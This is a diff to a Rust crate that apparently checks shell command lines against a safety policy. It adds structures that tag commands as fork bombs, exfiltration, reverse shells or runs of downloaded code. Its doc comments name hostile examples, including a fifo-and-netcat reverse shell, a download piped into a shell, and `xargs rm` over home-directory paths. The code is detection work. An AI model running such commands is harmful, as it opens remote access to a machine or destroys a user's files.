@@ -5,6 +5,10 @@
 //! expansion (`$x`, `${x}`, `~`, `$(…)`, `` `…` ``, `$((…))`) makes it non-literal; its
 //! source text is kept in place, so `rm -rf "$dir"/x` reads `rm -rf $dir/x`.
 //!
+//! Also the walker's product, each [`Found`] simple command with its [`Redirect`]s and
+//! [`Stdin`]: here at the bottom of the crate, so the rule modules read them without reaching
+//! up into `walk`.
+//!
 //! Pure: renders text, runs nothing.
 
 use brush_parser::word::{
@@ -298,6 +302,112 @@ fn decode_ansi_c_escapes(body: &str) -> String {
         }
     }
     out
+}
+
+/// Where a command's standard input comes from, as far as the policy cares.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+pub(crate) enum Stdin {
+    /// Whatever the enclosing command has.
+    #[default]
+    Inherited,
+    /// A pipe from an earlier command of the same pipeline.
+    Pipe,
+    /// A pipe from a pipeline in which an earlier command downloads (`curl … | …`).
+    DownloadPipe,
+    /// A pipe that carries only paths under the working directory: a `find` of relative
+    /// places or `git ls-files`, then only filters that keep whole lines (`grep`, `sort`).
+    LocalPaths,
+    /// A pipe that carries paths from all over the home directory or the whole system: a
+    /// `find` from there that no name test narrows (`find ~ -type f | xargs rm`).
+    HomePaths,
+}
+
+/// One redirection, normalized.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub(crate) struct Redirect {
+    pub fd: Option<i32>,
+    /// `<`, `>`, `>>`, `<>`, `>|`, `<&`, `>&`, `&>`, `&>>`, `<<`, `<<-` or `<<<`; `|` for
+    /// the text a literal `echo`/`printf` before it in a pipeline prints.
+    pub op: &'static str,
+    /// The file, fd or here-document delimiter.
+    pub target: Arg,
+    /// The text a here-document or here-string feeds to the command.
+    pub body: Option<String>,
+}
+
+impl Redirect {
+    /// `2>&1`, `>/dev/null`, `<<EOF`, `<<<text`.
+    pub(crate) fn text(&self) -> String {
+        let fd = self.fd.map(|fd| fd.to_string()).unwrap_or_default();
+        format!("{fd}{}{}", self.op, self.target.text)
+    }
+
+    /// True if the redirect opens its target for writing.
+    pub(crate) fn writes(&self) -> bool {
+        match self.op {
+            ">" | ">>" | ">|" | "<>" | "&>" | "&>>" => true,
+            // `>&word` writes stdout and stderr to a file unless the word is an fd or `-`.
+            ">&" => !self
+                .target
+                .text
+                .bytes()
+                .all(|byte| byte.is_ascii_digit() || byte == b'-'),
+            _ => false,
+        }
+    }
+}
+
+/// One simple command the shell would run.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub(crate) struct Found {
+    /// The words as written, assignments and redirections removed. Empty for a command made
+    /// only of redirections (`> file`).
+    pub argv: Vec<Arg>,
+    /// Where each command run through wrappers starts in `argv` (`sudo rm` is `[0, 1]`).
+    /// Empty when the text could not be parsed: no rule can match it then.
+    pub forms: Vec<usize>,
+    pub redirects: Vec<Redirect>,
+    /// The constructs this command was found in, outermost first (`$(…)`, `bash -c`, `f()`).
+    pub via: Vec<String>,
+    /// Why the policy cannot know what this command runs, if it cannot.
+    pub unknown: Option<String>,
+    /// The command calls the function it is defined in, in the background or twice in one
+    /// pipeline.
+    pub fork_bomb: bool,
+    pub stdin: Stdin,
+    /// The command only hands a script to a local shell (`bash -c`, `eval`); that script's
+    /// commands are found separately.
+    pub launcher: bool,
+    /// The text could not be parsed (this stands for all of it).
+    pub unparsed: bool,
+    /// The directory the command runs in, when an earlier `cd` or `pushd` of the same text
+    /// moved to a known place: `/…` (normalized) or `~` / `~/…`.
+    pub cwd: Option<String>,
+    /// The command runs in the background, or twice in one pipeline: if it calls a function
+    /// that calls back, each call starts several more at once.
+    pub fans_out: bool,
+    /// It is unknown only because which files under the working directory it deletes or
+    /// changes the mode or owner of is known at run time (`find . -name x | xargs rm -rf`):
+    /// a sandbox that confines writes to the project bounds what it can do.
+    pub files_only: bool,
+    /// The command line reads a credential or the environment and this command sends data
+    /// to another machine.
+    pub exfiltrates: bool,
+    /// A shell of the command line reads from a pipe while this command talks to the
+    /// network (`mkfifo f; sh < f | nc HOST PORT > f`).
+    pub reverse_shell: bool,
+    /// It runs code that came from the network by a route the pipe rules do not see: a file
+    /// the line downloaded, a shell fed by a coprocess or a fifo while a download runs.
+    pub runs_download: bool,
+}
+
+impl Found {
+    /// The words of each command it runs, outermost first.
+    pub(crate) fn each_form(&self) -> impl Iterator<Item = &[Arg]> {
+        self.forms
+            .iter()
+            .filter_map(|start| self.argv.get(*start..))
+    }
 }
 
 #[cfg(test)]
